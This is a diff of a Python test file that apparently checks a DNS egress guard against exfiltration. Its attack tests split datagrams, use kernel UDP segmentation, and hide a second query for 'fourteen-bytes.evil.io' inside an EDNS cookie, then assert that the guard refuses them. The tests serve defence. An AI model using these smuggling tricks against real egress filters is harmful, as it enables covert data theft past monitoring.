@@ -234,10 +234,11 @@ def test_a_datagram_is_judged_as_a_whole(workload: Workload, name_server: NameSe
         return str(outcome(act))
 
     message = PERMITTED["A"]
-    assert workload.run(lambda: in_parts(message[:20], message[20:])).value == "answered"
-    assert workload.run(lambda: in_parts(message, DATA.encode())).value == REFUSED
-    workload.refused("dns_form", "egress")
-    assert name_server.asked == [message]
+    # A permitted one, too: what is put together of parts may be changed by its sender after it was judged.
+    for parts in ((message[:20], message[20:]), (message, DATA.encode())):
+        assert workload.run(lambda parts=parts: in_parts(*parts)).value == REFUSED
+        workload.refused("dns_form", "egress")
+    assert not name_server.asked
 
 
 @attack("a permitted question and data behind it, cut by the kernel (UDP_SEGMENT)")
@@ -253,6 +254,26 @@ def test_datagrams_that_the_kernel_cuts_are_judged_before(workload: Workload, na
     assert workload.run(act).value == REFUSED
     workload.refused("dns_form", "egress")
     assert not name_server.asked
+
+
+@attack("a permitted question with a cookie that is another question, cut by the kernel (UDP_SEGMENT)")
+def test_a_question_within_a_cookie_does_not_leave(workload: Workload, name_server: NameServer) -> None:
+    hidden = dns.query("fourteen-bytes.evil.io")
+    assert len(hidden) == 40
+    asked = dns.name_of(PERMITTED["A"])
+    message = dns.query(asked, counts=(1, 0, 0, 1), more=dns.options((dns.COOKIE, hidden)))
+
+    def act() -> str:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
+            datagrams.setsockopt(socket.IPPROTO_UDP, 103, len(message) - len(hidden))
+            datagrams.sendto(message, (RESOLVER, 53))
+            return "sent"
+
+    assert workload.run(act).value == REFUSED
+    workload.refused("dns_form", "egress")
+    assert not name_server.asked
+    # In one piece it is a question like others.
+    assert workload.run(lambda: send(message)).value == "answered"
 
 
 @attack("all of it again, with the guard killed")
